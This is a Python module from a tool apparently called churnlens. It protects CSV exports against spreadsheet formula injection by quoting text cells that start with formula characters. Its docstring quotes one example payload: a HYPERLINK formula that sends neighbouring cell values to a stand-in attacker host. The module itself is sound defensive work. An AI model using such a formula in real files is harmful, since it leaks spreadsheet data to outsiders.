"""CSV files a person opens in a spreadsheet: no cell may run as a formula there.

A CS platform or a CSM imports the score table's CSV into Excel or Google Sheets, which run a
cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and carriage return are read
past before it). An account id such as ``=HYPERLINK("http://evil.example/?leak="&B2,"x")``
would then send its neighbours' cells to a stranger: OWASP's "CSV injection". Such text cells
get a leading single quote, which the spreadsheet shows as text; number columns are left as
they are, so a negative number stays a number. Every CSV churnlens writes goes through
:func:`write_csv`.
"""

from __future__ import annotations

from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pa_csv

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a text cell as a formula (OWASP)."""
_FORMULA_START = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_PREFIXES) + "]"


def _is_text(kind: pa.DataType) -> bool:
    return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind))


def neutralise_formulas(table: pa.Table) -> pa.Table:
    """``table`` with a ``'`` before every text cell that a spreadsheet would run as a formula;
    other columns (numbers, dates, flags) unchanged."""
    for index, field in enumerate(table.schema):
        column = table.column(index)
        kind = field.type
        if pa.types.is_dictionary(kind) and _is_text(kind.value_type):  # pandas categories
            column, kind = column.cast(kind.value_type), kind.value_type
        if not _is_text(kind):
            continue
        risky = pc.match_substring_regex(column, pattern=_FORMULA_START)
        quoted = pc.utf8_replace_slice(column, start=0, stop=0, replacement="'")
        table = table.set_column(index, field.with_type(kind), pc.if_else(risky, quoted, column))
    return table


def write_csv(table: pa.Table, path: Path) -> None:
    """Write ``table`` as CSV (Arrow's writer), its text cells neutralised against formulas."""
    pa_csv.write_csv(neutralise_formulas(table), path)
